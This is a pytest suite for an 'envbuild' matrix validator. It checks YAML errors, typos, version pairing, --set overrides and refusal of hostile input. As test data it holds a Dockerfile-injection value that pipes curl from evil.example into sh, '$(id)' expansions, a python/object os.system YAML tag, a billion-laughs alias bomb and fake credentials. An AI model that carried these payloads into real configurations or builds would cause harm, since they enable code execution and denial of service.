"""Tests for envbuild/matrix/: loading, validation with located errors, --set overrides.

Every bad matrix is derived from tests/data/minimal.yaml by editing one or two lines, so each case reads
as "this mistake" and the expected line is the line that holds the mistake (found by text, not hard-coded).
Each case is checked twice: through the library (envbuild.matrix.loads) and through `envbuild validate`.
"""

from __future__ import annotations

import dataclasses
from dataclasses import dataclass
from pathlib import Path

import pytest

from support.constants import FIXED
from support.constants import MATRIX as REPO_MATRIX
from support.constants import MINIMAL as MINIMAL_PATH

from envbuild import matrix
from envbuild.core.errors import MatrixError, NotContainerizableError, Problem, UnknownBackendError
import yaml
from hypothesis import assume, given, strategies as st
from support.properties import FILES, HEAVY, HOSTILE, JSON, KINDS, PROPS, SECRET, exits_cleanly, file_bytes, own_error, plant
from support.hostile import SECRET_FORMS, SHAPES
import os
import json
import subprocess
import sys
import time

MINIMAL = MINIMAL_PATH.read_text(encoding="utf-8")

# Anchors that say in which part of MINIMAL an edit or a searched line lies.
CPU, NPU, ROCM, MPS = "\n  cpu:\n", "\n  npu:\n", "\n  rocm:\n", "\n  mps:\n"
PLUGIN = "\n    plugin:\n"


def _find(text: str, needle: str, after: str = "") -> int:
    start = text.index(after) if after else 0
    return text.index(needle, start)


def edit(text: str, *edits: tuple[str, str, str]) -> str:
    """Apply (old, new, after) edits: replace the first `old` that follows the anchor `after`."""
    for old, new, after in edits:
        i = _find(text, old, after)
        text = text[:i] + new + text[i + len(old):]
    return text


def line_of(text: str, needle: str, after: str = "") -> int:
    """1-based line of the first `needle` after the anchor `after`."""
    return text[: _find(text, needle, after)].count("\n") + 1


@dataclass(frozen=True)
class Bad:
    id: str
    edits: tuple[tuple[str, str, str], ...]
    line: tuple[str, str]  # (needle, after): the line the single error must name
    fragments: tuple[str, ...]  # the field path, the problem and the hint


BAD = [
    # --- YAML itself ---
    Bad("yaml-syntax-error", (("device: cpu\n", "device: cpu: x\n", CPU),), ("device: cpu: x", ""),
        ("YAML syntax error", "mapping values are not allowed")),
    # --- keys ---
    Bad("missing-required-key", (("    description: CPU\n", "", CPU),), ("  cpu:", ""),
        ("missing required key 'description' in backends.cpu",)),
    Bad("missing-index-url-for-pip-torch", (("      index_url: https://download.pytorch.org/whl/cpu\n", "", CPU),),
        ("    torch:", CPU), ("missing required key 'index_url' in backends.cpu.torch",)),
    # torch.accelerator (2.6+) answers for every device: the matrix's own call only for an older torch.
    Bad("missing-availability-for-old-torch", (('      version: "2.8.0"\n', '      version: "2.5.1"\n', ROCM),),
        ("  rocm:", ""), ("missing required key 'availability' in backends.rocm", "torch 2.5.1 predates torch.accelerator")),
    Bad("availability-unused-with-torch-accelerator",
        (("    import: torch_npu\n", "    import: torch_npu\n    availability: torch.npu.is_available\n", NPU),),
        ("    availability:", NPU), ("backends.npu.availability: not used: torch 2.14.0 answers through torch.accelerator",)),
    Bad("missing-reason-for-non-containerizable", (("    reason: no Linux container can reach Apple's Metal GPU\n", "", MPS),),
        ("  mps:", ""), ("missing required key 'reason' in backends.mps",)),
    # The issue's own example: a typo of a required key must give ONE message, the did-you-mean one.
    Bad("unknown-key-typo-of-required-key", (("base_image:", "base_imge:", CPU),), ("base_imge:", ""),
        ("unknown key 'base_imge' in backends.cpu", "(did you mean 'base_image'?)")),
    Bad("unknown-key-typo-nested", (("apt:", "atp:", CPU),), ("atp:", ""),
        ("unknown key 'atp' in backends.cpu.python", "(did you mean 'apt'?)")),
    Bad("unknown-key-typo-top-level-section", (("vendor:", "vendr:", ""),), ("vendr:", ""),
        ("unknown key 'vendr' in image", "(did you mean 'vendor'?)")),
    Bad("unknown-key-no-close-match", (("      privileged: false\n", "      privileged: false\n      frobnicate: 1\n", ROCM),),
        ("frobnicate:", ""), ("unknown key 'frobnicate' in backends.rocm.run", "(known keys: gpus, devices,")),
    Bad("duplicate-key", (("    base_image: debian:bookworm-slim\n",
                           "    base_image: debian:bookworm-slim\n    base_image: debian:trixie-slim\n", CPU),),
        ("debian:trixie-slim", ""),
        ("duplicate key 'base_image' in backends.cpu", f"first defined at line {line_of(MINIMAL, 'base_image:', CPU)}")),
    Bad("duplicate-backend", (("\n  mps:\n", "\n  cpu:\n", ""),), ("  cpu:", ROCM),
        ("duplicate key 'cpu' in backends", f"first defined at line {line_of(MINIMAL, '  cpu:')}")),
    # --- types ---
    Bad("wrong-type-unquoted-version", (('version: "2.15.0"', "version: 2.15", CPU),), ("version: 2.15", ""),
        ("backends.cpu.torch.version", "expected a version string, got a number 2.15", "quote it")),
    Bad("wrong-type-string-for-list", (("platforms: [linux/amd64]", "platforms: linux/amd64", CPU),),
        ("platforms: linux/amd64", ""), ("backends.cpu.platforms", "expected a list, got a string 'linux/amd64'")),
    Bad("wrong-type-string-for-bool", (("privileged: false", 'privileged: "no"', ROCM),), ('privileged: "no"', ""),
        ("backends.rocm.run.privileged", "expected true or false, got a string 'no'")),
    Bad("wrong-type-string-for-mapping", (('accelerate:\n  version: "1.15.0"', 'accelerate: "1.15.0"', ""),),
        ('accelerate: "1.15.0"', ""), ("accelerate", "expected a mapping, got a string '1.15.0'")),
    Bad("empty-required-list", (("runs_on: [ubuntu-latest]", "runs_on: []", CPU),), ("runs_on: []", ""),
        ("backends.cpu.ci.runs_on", "must list at least one entry")),
    Bad("value-not-one-of-choices", (("pairing: same-release", "pairing: same-patch", PLUGIN),), ("same-patch", ""),
        ("backends.npu.plugin.pairing", "'same-patch' is not one of: same-release, same-minor, local-torch, none")),
    Bad("bad-backend-name", (("\n  cpu:\n", "\n  CPU:\n", ""),), ("  CPU:", ""),
        ("backend name 'CPU' is not a lower-case name",)),
    Bad("darwin-platform-in-a-container", (("platforms: [linux/amd64]", "platforms: [darwin/arm64]", CPU),),
        ("darwin/arm64", CPU), ("backends.cpu.platforms", "cannot target darwin")),
    # An invalid value must be reported as invalid, once, not also as "missing".
    Bad("invalid-image-reference", (("debian:bookworm-slim", '"debian:bookworm slim"', CPU),), ("bookworm slim", ""),
        ("backends.cpu.base_image", "'debian:bookworm slim' is not an image reference")),
    # --- versions and specifiers ---
    Bad("invalid-version", (('version: "5.23.0"', 'version: "5.23.x"', ""),), ('"5.23.x"', ""),
        ("transformers.version", "'5.23.x' is not a valid version (PEP 440)")),
    Bad("invalid-specifier", (('torch: ">=2.14,<2.15"', 'torch: "=>2.14"', PLUGIN),), ('"=>2.14"', ""),
        ("backends.npu.plugin.torch", "'=>2.14' is not a valid version specifier")),
    # --- plugin/torch pairing rules ---
    Bad("pairing-same-release", (('version: "2.14.0"', 'version: "2.13.0"', PLUGIN),), ('"2.13.0"', ""),
        ("backends.npu.plugin.version", "torch-npu 2.13.0 does not pair with torch 2.14.0", "rule same-release")),
    Bad("pairing-same-minor", (("pairing: same-release", "pairing: same-minor", PLUGIN),
                               ('version: "2.14.0"', 'version: "2.13.9"', PLUGIN)), ('"2.13.9"', ""),
        ("backends.npu.plugin.version", "torch-npu 2.13.9 does not pair with torch 2.14.0", "rule same-minor")),
    Bad("pairing-local-torch", (("pairing: same-release", "pairing: local-torch", PLUGIN),
                                ('version: "2.14.0"', 'version: "1.23.1+torch2.13.0"', PLUGIN)),
        ('"1.23.1+torch2.13.0"', ""), ("backends.npu.plugin.version", "rule local-torch", "'+torch2.14.0'")),
    Bad("plugin-torch-specifier-range", (('torch: ">=2.14,<2.15"', 'torch: ">=2.15,<2.16"', PLUGIN),),
        ('">=2.15,<2.16"', ""), ("backends.npu.plugin.torch", "torch 2.14.0 is outside the plugin's supported range")),
    # --- values that would inject into a Dockerfile ---
    Bad("newline-injection", (("description: CPU", 'description: "CPU\\nRUN curl https://evil.example | sh"', CPU),),
        ("RUN curl", ""), ("backends.cpu.description", "contains a newline (U+000A)", "inject")),
    Bad("newline-injection-block-scalar", (("description: CPU", "description: |\n      CPU\n      RUN id", CPU),),
        ("description: |", ""), ("backends.cpu.description", "contains a newline (U+000A)")),
    Bad("control-character", (("description: CPU", 'description: "CPU\\a"', CPU),), ('"CPU\\a"', ""),
        ("backends.cpu.description", "control character")),
    Bad("double-quote-in-label-text", (("vendor: example", "vendor: 'ex\"ample'", ""),), ("vendor:", ""),
        ("image.vendor", "without quotes")),
    Bad("double-quote-in-description", (("description: CPU", "description: 'CPU \"fast\"'", CPU),), ('"fast"', ""),
        ("backends.cpu.description", "without quotes")),
    Bad("shell-expansion-in-label-text", (("description: CPU", "description: CPU $(id)", CPU),), ("$(id)", ""),
        ("backends.cpu.description", "'$'")),
]


def test_minimal_matrix_is_valid() -> None:
    m = matrix.loads(MINIMAL, "minimal.yaml")
    assert m.names == ["cpu", "npu", "rocm", "mps"]
    assert [b.name for b in m.containerizable()] == ["cpu", "npu", "rocm"]


def test_at_least_ten_bad_matrices_are_distinct() -> None:
    texts = {edit(MINIMAL, *case.edits) for case in BAD}
    assert len(texts) == len(BAD) >= 10
    assert MINIMAL not in texts


@pytest.mark.parametrize("case", BAD, ids=lambda c: c.id)
def test_bad_matrix_gives_one_located_error(case: Bad, write_matrix, invoke) -> None:
    text = edit(MINIMAL, *case.edits)
    line = line_of(text, *case.line)
    path = write_matrix(text)

    # CLI: exit 2, one message, `FILE:LINE: field problem (hint)`, nothing on stdout, no traceback.
    result = invoke("validate", "--matrix", path)
    assert result.exit_code == 2, result.output
    errors = [ln for ln in result.stderr.splitlines() if ln.strip()]
    assert len(errors) == 1, f"expected one located error, got:\n{result.stderr}"
    assert errors[0].startswith(f"Error: {path}:{line}: "), errors[0]
    assert "matrix.yaml" in errors[0]
    for fragment in case.fragments:
        assert fragment in errors[0]
    assert result.stdout == ""

    # Library: the same single Problem, with the source name given and the line.
    with pytest.raises(MatrixError) as info:
        matrix.loads(text, "matrix.yaml")
    problems = info.value.problems
    assert len(problems) == 1, "\n".join(map(str, problems))
    assert (problems[0].source, problems[0].line) == ("matrix.yaml", line)
    assert str(problems[0]).startswith(f"matrix.yaml:{line}: ")
    assert info.value.exit_code == 2


@pytest.mark.parametrize(
    "text",
    ["", "\n\n", "   \n", "# just a comment\n# and another\n", "---\n", "null\n"],
    ids=["empty", "blank-lines", "spaces", "comments-only", "document-marker-only", "null"],
)
def test_empty_matrix(text: str, write_matrix, invoke) -> None:
    path = write_matrix(text)
    result = invoke("validate", "--matrix", path)
    assert result.exit_code == 2
    errors = result.stderr.splitlines()
    assert len(errors) == 1, result.stderr
    assert errors[0].startswith(f"Error: {path}")
    assert "empty" in errors[0]
    with pytest.raises(MatrixError) as info:
        matrix.loads(text, "m.yaml")
    assert len(info.value.problems) == 1 and info.value.problems[0].source == "m.yaml"


@pytest.mark.parametrize(
    ("text", "fragment"),
    [("- cpu\n- cuda\n", "got a list"), ("hello\n", "got a string"), ("42\n", "got a number")],
    ids=["list", "string", "number"],
)
def test_top_level_must_be_a_mapping(text: str, fragment: str, write_matrix, invoke) -> None:
    path = write_matrix(text)
    result = invoke("validate", "--matrix", path)
    assert result.exit_code == 2
    (error,) = result.stderr.splitlines()
    assert error.startswith(f"Error: {path}: not an envbuild matrix: expected a mapping")
    assert fragment in error and "hello" not in error  # a file that is no matrix is not quoted


def test_yaml_syntax_error_unclosed_flow_sequence_names_the_file_and_a_line(write_matrix, invoke) -> None:
    text = edit(MINIMAL, ("platforms: [linux/amd64]", "platforms: [linux/amd64", CPU))
    path = write_matrix(text)
    result = invoke("validate", "--matrix", path)
    assert result.exit_code == 2
    (error,) = result.stderr.splitlines()
    assert error.startswith(f"Error: {path}:") and "YAML syntax error" in error
    reported = int(error[len(f"Error: {path}:"):].split(":", 1)[0])
    assert reported >= line_of(text, "platforms: [linux/amd64", CPU)


def test_yaml_python_tags_are_refused(write_matrix, invoke) -> None:
    path = write_matrix("image: !!python/object/apply:os.system true\n")
    result = invoke("validate", "--matrix", path)
    assert result.exit_code == 2
    assert f"{path}:1: YAML syntax error" in result.stderr


def test_non_utf8_file_names_the_line(write_matrix, invoke) -> None:
    raw = MINIMAL.encode().replace(b"description: CPU", b"description: CPU \xff")
    path = write_matrix(raw)
    result = invoke("validate", "--matrix", path)
    assert result.exit_code == 2
    line = line_of(MINIMAL, "description: CPU")
    assert result.stderr.strip() == f"Error: {path}:{line}: not UTF-8 text"
    with pytest.raises(MatrixError) as info:
        matrix.load(path)
    assert info.value.problems == [Problem(str(path), line, "not UTF-8 text")]


def test_missing_file(tmp_path: Path, invoke) -> None:
    path = tmp_path / "nope.yaml"
    result = invoke("validate", "--matrix", path)
    assert result.exit_code == 2
    assert f"{path}: no such file" in result.stderr
    with pytest.raises(MatrixError, match="no such file"):
        matrix.load(path)


def test_all_problems_are_collected_in_one_run(write_matrix, invoke) -> None:
    text = edit(
        MINIMAL,
        ("base_image:", "base_imgae:", NPU),
        ('version: "2.15.0"', 'version: "two"', CPU),
        ("vendor: example", "vendor: 'a\"b'", ""),
    )
    path = write_matrix(text)
    result = invoke("validate", "--matrix", path)
    assert result.exit_code == 2
    stderr = result.stderr
    assert f"{path}:{line_of(text, 'vendor:')}: image.vendor" in stderr
    assert f"{path}:{line_of(text, 'version:', CPU)}: backends.cpu.torch.version" in stderr
    assert f"{path}:{line_of(text, 'base_imgae:')}: unknown key 'base_imgae' in backends.npu (did you mean 'base_image'?)" in stderr
    with pytest.raises(MatrixError) as info:
        matrix.loads(text)
    assert len(info.value.problems) >= 3


def test_version_with_surrounding_spaces_is_rejected() -> None:
    # packaging accepts " 2.15.0 "; kept as is it would render `torch== 2.15.0 ` and split ENVBUILD_EXPECT.
    text = edit(MINIMAL, ('version: "2.15.0"', 'version: " 2.15.0 "', CPU))
    with pytest.raises(MatrixError) as info:
        matrix.loads(text)
    (problem,) = info.value.problems
    assert problem.line == line_of(text, '" 2.15.0 "')
    assert "backends.cpu.torch.version" in problem.message and "leading or trailing spaces" in problem.message


# --------------------------------------------------------------------------------------------------
# The valid repo matrix and the typed objects.


def test_repo_matrix_loads() -> None:
    m = matrix.load(REPO_MATRIX)
    assert m.names == ["cpu", "cuda", "cuda-cu130", "cuda-cu126", "rocm", "rocm-10-0", "neuron", "tpu", "xpu", "mps", "hpu",
                       "npu", "npu-a3", "npu-310p", "mlu", "musa"]
    assert {b.name for b in m.backends if b.variant_of} == {"cuda-cu130", "cuda-cu126", "rocm-10-0", "npu-a3", "npu-310p"}
    assert [b.name for b in m.containerizable()] == [n for n in m.names if n != "mps"]
    assert {b.name for b in m.backends if b.torch.source == "base"} == {"rocm", "rocm-10-0", "neuron", "hpu", "mlu", "musa"}
    assert m.path == str(REPO_MATRIX)


def test_fixed_test_matrix_is_valid() -> None:
    m = matrix.load(FIXED)
    assert len(m.containerizable()) == 10


def test_backend_objects_are_frozen_and_typed() -> None:
    m = matrix.loads(MINIMAL)
    npu = m.backend("npu")
    assert npu.plugin == matrix.Plugin("torch-npu", "2.14.0", "pip", None, "same-release", ">=2.14,<2.15")
    assert npu.pins == {"torch": "2.14.0", "torch-npu": "2.14.0"}
    assert npu.import_module == "torch_npu" and npu.availability is None  # torch 2.14: torch.accelerator answers
    cpu = m.backend("cpu")
    assert cpu.torch == matrix.Torch("pip", "2.15.0", "https://download.pytorch.org/whl/cpu")
    assert cpu.python == matrix.Python("python3", ("python3", "python3-venv"))
    assert cpu.runs_on == ("ubuntu-latest",) and cpu.platforms == ("linux/amd64",)
    assert m.image == matrix.Image("ghcr.io/example/envbuild", "https://github.com/example/envbuild", "Apache-2.0", "example")
    assert (m.transformers, m.accelerate) == ("5.23.0", "1.15.0")
    with pytest.raises(dataclasses.FrozenInstanceError):
        cpu.name = "gpu"  # type: ignore[misc]


def test_docker_run_flags_for_rocm() -> None:
    args = matrix.load(REPO_MATRIX).backend("rocm").run.docker_args()
    joined = " ".join(args)
    for flag in ("--device /dev/kfd", "--device /dev/dri", "--group-add video", "--ipc=host", "--shm-size 8g"):
        assert flag in joined


def test_tags() -> None:
    m = matrix.loads(MINIMAL)
    assert m.tags(m.backend("npu")) == [
        "ghcr.io/example/envbuild:npu",
        "ghcr.io/example/envbuild:npu-torch2.14.0-torch-npu2.14.0-transformers5.23.0",
    ]


def test_select() -> None:
    m = matrix.loads(MINIMAL)
    assert [b.name for b in m.select([])] == ["cpu", "npu", "rocm"]
    assert [b.name for b in m.select(["all"])] == ["cpu", "npu", "rocm"]
    assert [b.name for b in m.select(["rocm", "cpu", "rocm"])] == ["rocm", "cpu"]
    assert [b.name for b in m.select(["mps"], containers_only=False)] == ["mps"]
    with pytest.raises(NotContainerizableError, match="cannot run in a container.*Metal.*Instead: use the cpu image"):
        m.select(["mps"])
    with pytest.raises(UnknownBackendError) as info:
        m.select(["nope"])
    assert info.value.exit_code == 2
    assert "unknown backend 'nope'" in str(info.value)
    assert info.value.valid == ["cpu", "npu", "rocm", "mps"]


# --------------------------------------------------------------------------------------------------
# --set overrides, through the library.


def test_override_applies() -> None:
    m = matrix.loads(MINIMAL, overrides=["backends.cpu.torch.version=2.13.0", "transformers.version=5.0.0"])
    assert m.backend("cpu").torch.version == "2.13.0"
    assert m.transformers == "5.0.0"


def test_override_number_stays_text() -> None:
    assert matrix.loads(MINIMAL, overrides=["backends.cpu.torch.version=2.13"]).backend("cpu").torch.version == "2.13"


@pytest.mark.parametrize(
    ("override", "fragment"),
    [
        ("backends.cpu.torch.version=abc", "backends.cpu.torch.version: 'abc' is not a valid version"),
        ("backends.cpu.torch.verison=2.13.0", "unknown key 'verison' in backends.cpu.torch (did you mean 'version'?)"),
        ("backends.cpu.torch.version", "expected DOTTED.PATH=VALUE"),
        ("=2.13.0", "expected DOTTED.PATH=VALUE"),
        ("backends..torch=1", "expected DOTTED.PATH=VALUE"),
        ("backends.cpu.torch.version.patch=1", "backends.cpu.torch.version is not a mapping"),
        ('backends.cpu.description=a"b', "without quotes"),
    ],
    ids=["invalid-version", "typo", "no-equals", "no-path", "empty-part", "not-a-mapping", "quote"],
)
def test_override_errors_name_the_set(override: str, fragment: str) -> None:
    with pytest.raises(MatrixError) as info:
        matrix.loads(MINIMAL, "matrix.yaml", overrides=[override])
    (problem,) = info.value.problems
    assert problem.source == f"--set {override}"
    assert problem.line is None
    assert fragment in problem.message


# --------------------------------------------------------------------------------------------------
# The names people use for a backend.


@pytest.mark.parametrize(("said", "meant"), [("amd", "rocm"), ("ROCm", "rocm"), ("nvidia", "cuda"), ("NVIDIA", "cuda"),
                                             ("Gaudi", "hpu"), ("ascend", "npu"), ("trainium", "neuron"),
                                             ("apple", "mps"), ("CPU", "cpu"), ("moore-threads", "musa")])
def test_backend_names_people_use(said: str, meant: str) -> None:
    assert matrix.load(FIXED).backend(said).name == meant


def test_an_ambiguous_name_asks_which() -> None:
    with pytest.raises(UnknownBackendError) as info:
        matrix.load(FIXED).backend("intel")
    assert "'intel' could mean xpu (Intel GPU) or hpu (Intel Gaudi): say which" in str(info.value)


def test_a_misspelt_name_gets_a_suggestion() -> None:
    with pytest.raises(UnknownBackendError) as info:
        matrix.load(FIXED).backend("rcom")
    assert str(info.value).startswith("unknown backend 'rcom' (did you mean rocm, the AMD GPU (ROCm)?); valid backends: cpu, ")
    with pytest.raises(UnknownBackendError) as info:
        matrix.load(FIXED).backend("nvida")
    assert "(did you mean cuda, the NVIDIA GPU?)" in str(info.value)


@pytest.mark.parametrize("name", ["HF_HOME", "XDG_CACHE_HOME", "TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR", "hf_hub_cache",
                                  "TORCH_HOME", "TRANSFORMERS_CACHE"])
def test_a_backend_env_cannot_move_a_cache_off_the_cache_volume(name, invoke):
    for field in ("env", "run.env"):
        result = invoke("validate", "--matrix", REPO_MATRIX, "--set", f"backends.cpu.{field}.{name}=/tmp/elsewhere")
        assert result.exit_code == 2, result.output
        assert f"'{name}' is reserved" in result.stderr and "bypass the cache volume" in result.stderr
        assert "--cache" in result.stderr  # the way out: your own folder at /cache
    assert invoke("validate", "--matrix", REPO_MATRIX, "--set", "backends.cpu.run.env.HF_HUB_OFFLINE=1").exit_code == 0


# --- Property tests (hypothesis): any input is parsed or refused with envbuild's own clean error (from test_properties.py)

MATRIX_TEXT = FIXED.read_text(encoding="utf-8")


PATHS = st.one_of(HOSTILE, st.builds(".".join, st.lists(st.sampled_from(
    ["backends", "cpu", "cuda", "run", "env", "torch", "version", "index_url", "base_image", "platforms", "transformers",
     "image", "apt", "", "X", "\x1b[2J"]), min_size=1, max_size=5)))


@HEAVY
@given(PATHS, HOSTILE)
def test_a_set_of_any_path_and_value_validates_or_is_refused(path, value):
    from envbuild.matrix import loads

    own_error(lambda: loads(MATRIX_TEXT, overrides=[f"{path}={value}"]))


@PROPS
@given(st.from_regex(r"\A[A-Z][A-Z0-9_]{0,10}\Z").filter(lambda k: not k.startswith("ENVBUILD_")),
       st.from_regex(r"\A[A-Za-z0-9][A-Za-z0-9._/-]{0,30}\Z"))
def test_a_set_env_value_that_is_accepted_reads_back(key, value):
    from envbuild.matrix import loads

    m = own_error(lambda: loads(MATRIX_TEXT, overrides=[f"backends.cpu.env.{key}={value}"]))
    assume(m is not None)  # a reserved name (a cache, a secret's) is refused, said so
    assert dict(m.backend("cpu").env)[key] == value


def _mutations(tree):
    """Every (path) of a YAML tree: a leaf or a section to replace."""
    out = []

    def walk(node, path):
        out.append(path)
        if isinstance(node, dict):
            for k, v in node.items():
                walk(v, (*path, k))
        elif isinstance(node, list):
            for i, v in enumerate(node):
                walk(v, (*path, i))

    walk(tree, ())
    return out


TREE = yaml.safe_load(MATRIX_TEXT)


WHERE = _mutations(TREE)


@HEAVY
@given(st.sampled_from(WHERE), JSON)
def test_a_matrix_file_with_any_value_anywhere_validates_or_is_refused(where, value):
    import copy

    from envbuild.matrix import loads

    tree = copy.deepcopy(TREE)
    if not where:
        tree = value
    else:
        node = tree
        for part in where[:-1]:
            node = node[part]
        node[where[-1]] = value
    text = yaml.safe_dump(tree, allow_unicode=True)
    own_error(lambda: loads(text, source="matrix.yaml"))


@PROPS
@given(HOSTILE)
def test_any_matrix_text_validates_or_is_refused(text):
    from envbuild.matrix import loads

    own_error(lambda: loads(text, source="matrix.yaml"))


# --- Hostile input, round three: each case one class of attack, fixed at its root (from test_hostile_round3.py)

@pytest.mark.parametrize("name", ["PIP_CONSTRAINT", "uv_constraint"])
def test_the_matrix_cannot_lift_the_vendor_torch_guard(name, invoke):
    for field in ("env", "run.env"):
        result = invoke("validate", "--matrix", REPO_MATRIX, "--set", f"backends.cpu.{field}.{name}=/dev/null")
        assert result.exit_code == 2 and "is reserved" in result.stderr


def test_the_metadata_cache_that_is_no_file_exits_2(tmp_path, invoke):
    matrix = tmp_path / "matrix.yaml"
    matrix.write_text(REPO_MATRIX.read_text())
    os.mkfifo(tmp_path / "matrix.metadata.json")
    result = invoke("validate", "--matrix", matrix)
    assert result.exit_code == 2, result.output


# --- Hostile input: what a matrix, a flag, a file or an answer from outside can do, each case fixed at its root (from test_hostile_input.py)

def _yaml(text: str) -> str:
    """A YAML double-quoted scalar holding the text (its escapes carry every character through --set)."""
    return '"' + "".join(c if c.isalnum() or c in " _-." else f"\\U{ord(c):08x}" for c in text) + '"'


@pytest.mark.parametrize("escape", ["\\N", "\\L", "\\P", "\\x85", "\\u2028", "\\e[2J", "\\u202e"])
def test_a_matrix_file_is_held_to_the_same_rule(escape, write_matrix, invoke):
    text = MINIMAL_PATH.read_text().replace("description: CPU", f'description: "CPU{escape}RUN id"', 1)
    result = invoke("validate", "--matrix", write_matrix(text))
    assert result.exit_code == 2 and "backends.cpu.description" in result.stderr
    assert ":16:" in result.stderr or "matrix.yaml:" in result.stderr


def test_bytes_that_are_not_utf8_in_a_set_value_are_refused_by_name():
    proc = subprocess.run([sys.executable, "-m", "envbuild", "validate", "--matrix", str(REPO_MATRIX),
                           "--set", os.fsdecode(b"backends.cpu.description=a\xffb")],
                          capture_output=True, text=True, errors="replace", timeout=60)
    assert proc.returncode == 2 and "lone surrogate" in proc.stderr, proc.stderr


BILLION_LAUGHS = "".join(
    ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"]
    + [f"a{i}: &a{i} [*a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}, *a{i-1}]\n" for i in range(1, 9)]
)


def _timed(*args: str, timeout: int = 30) -> subprocess.CompletedProcess:
    start = time.monotonic()
    proc = subprocess.run([sys.executable, "-m", "envbuild", *args], capture_output=True, text=True, timeout=timeout)
    assert time.monotonic() - start < timeout and "Traceback" not in proc.stderr, proc.stderr
    return proc


def test_yaml_aliases_cannot_expand_without_bound(write_matrix):
    proc = _timed("validate", "--matrix", str(write_matrix(BILLION_LAUGHS)))
    assert proc.returncode == 2 and "expands to more than" in proc.stderr
    proc = _timed("validate", "--matrix", str(REPO_MATRIX), "--set", "backends.cpu.env={a: &x [*x, *x]}")
    assert proc.returncode == 2 and "a YAML alias refers to itself" in proc.stderr
    proc = _timed("validate", "--matrix", str(write_matrix("a: &a [*a]\n", "self.yaml")))
    assert proc.returncode == 2 and "refers to itself" in proc.stderr


@pytest.mark.parametrize("override", ["backends.cpu={1: 2}", "backends.cpu.run={null: 1}", "image={true: x}",
                                      "backends.cpu.python={1.5: x}", "backends.cuda.run.gpus=banana",
                                      "backends.cuda.run.gpus=device=0,1", 'backends.cpu.description="\\ud800"'])
def test_odd_set_values_are_located_errors(override, invoke, tmp_path):
    result = invoke("render", "--matrix", REPO_MATRIX, "--output", tmp_path / "out", "--set", override)
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith(f"Error: --set {override}: ") and "internal error" not in result.stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("field", ["backends.cpu.env", "backends.cpu.run.env"])
def test_envbuild_variables_are_reserved(field, invoke):
    result = invoke("validate", "--matrix", REPO_MATRIX, "--set", f"{field}={{ENVBUILD_PLUGIN_IMPORT: os}}")
    assert result.exit_code == 2 and "is reserved" in result.stderr




URL_FIELDS = ["index.url", "index.extra_urls", "backends.cuda.torch.index_url", "backends.xpu.plugin.index_url",
              "image.source"]


CREDENTIAL_URLS = ["https://alice:s3cr3t-idx@pypi.corp/simple", "https://__token__:pypi-AgEIcHlwaS5vcmc0123456789abcdef@upload.pypi.org/simple",
                   "http://tok-only-123456@10.0.0.5:8080/simple", "https://user:p%40ss-enc@host/x/"]


@pytest.mark.parametrize("url", CREDENTIAL_URLS)
@pytest.mark.parametrize("field", URL_FIELDS)
def test_credentials_in_an_index_url_are_refused_naming_the_right_way(field, url, invoke):
    value = f"[{_yaml(url)}]" if field.endswith("extra_urls") else _yaml(url)
    result = invoke("validate", "--matrix", REPO_MATRIX, "--set", f"{field}={value}")
    assert result.exit_code == 2, result.output
    assert "carries credentials" in result.stderr and "--netrc" in result.stderr and "BuildKit secret" in result.stderr
    secret = url.split("://", 1)[1].split("@", 1)[0].split(":")[-1]
    assert secret not in result.output


def test_credentials_in_a_matrix_file_are_refused_with_its_line(write_matrix, invoke):
    text = REPO_MATRIX.read_text().replace("https://download.pytorch.org/whl/cpu", "https://bob:file-s3cret@download.pytorch.org/whl/cpu", 1)
    assert text != REPO_MATRIX.read_text()
    result = invoke("render", "--matrix", write_matrix(text), "--output", "never")
    assert result.exit_code == 2 and "carries credentials" in result.stderr and "file-s3cret" not in result.output
    assert "matrix.yaml:" in result.stderr and not Path("never").exists()


NETRC = "machine pypi.corp.example\n  login alice\n  password n3trc-Pa55word\n"


NOT_MATRICES = {
    "netrc": NETRC,
    "netrc-one-line": "machine a login b password n3trc-Pa55word",
    "docker-config": '{"auths": {"ghcr.io": {"auth": "n3trc-Pa55word"}}}',
    "dotenv": "API_KEY=n3trc-Pa55word\nexport OTHER=n3trc-Pa55word\n",
    "pem": "-----BEGIN OPENSSH PRIVATE KEY-----\nn3trc-Pa55word\n-----END OPENSSH PRIVATE KEY-----\n",
    "yaml-secrets": "token: n3trc-Pa55word\nuser: bob\n",
    "yaml-list": "- n3trc-Pa55word\n- x\n",
    "number": "12345\n",
    "pypirc": "[pypi]\nusername = __token__\npassword = n3trc-Pa55word\n",
    "shell": "#!/bin/sh\ncurl -H 'Authorization: n3trc-Pa55word' x\n",
}


@pytest.mark.parametrize("kind", sorted(NOT_MATRICES))
def test_a_file_that_is_no_matrix_is_not_quoted(kind, write_matrix, invoke):
    path = write_matrix(NOT_MATRICES[kind], f"{kind}.txt")
    result = invoke("validate", "--matrix", path)
    assert result.exit_code == 2 and "n3trc-Pa55word" not in result.output, result.output


@pytest.mark.parametrize("field, payload", [("transformers.version", '5.24.0" # x'), ("transformers.version", "5.0\nx: 1"),
                                            ("backends.cpu.base_image", "debian:12\n    env: {A: b}"),
                                            ("backends.cpu.description", "CPU\n    device: cuda"), ("uv.version", '0.14", "x": "1'),
                                            ("backends.cpu.base_image", "debian:12 #c")])
def test_an_edit_that_would_change_other_fields_is_refused(field, payload, tmp_path):
    from envbuild.core.errors import MatrixError
    from envbuild.matrix.edit import apply

    text = REPO_MATRIX.read_text()
    with pytest.raises(MatrixError):
        apply(text, {field: payload})


SET_LOCATED = ["backends.cpu.description=null", "image=null", "backends.cuda.torch=null", "transformers.torch='>=9'",
               "backends.npu.torch.version=2.1.0", "backends.cuda.variant_of=cpu", "backends.xpu.plugin.pairing=same-release",
               "backends.npu.plugin.version=1.0.0", "accelerate.torch='>=99'", "backends.cpu.torch.version=2.1.0",
               "backends.cpu.ci=null", "backends.npu.plugin.import=null", "backends.xpu.torch.index_url=null"]


@pytest.mark.parametrize("override", SET_LOCATED)
def test_set_errors_are_placed_at_the_set(override, invoke):
    result = invoke("validate", "--matrix", REPO_MATRIX, "--set", override)
    if result.exit_code == 0:
        return  # a valid override (the matrix allows it)
    assert result.exit_code == 2
    lines = result.stderr.strip().splitlines()
    assert lines and all(line.startswith(f"Error: --set {override}: ") for line in lines), lines


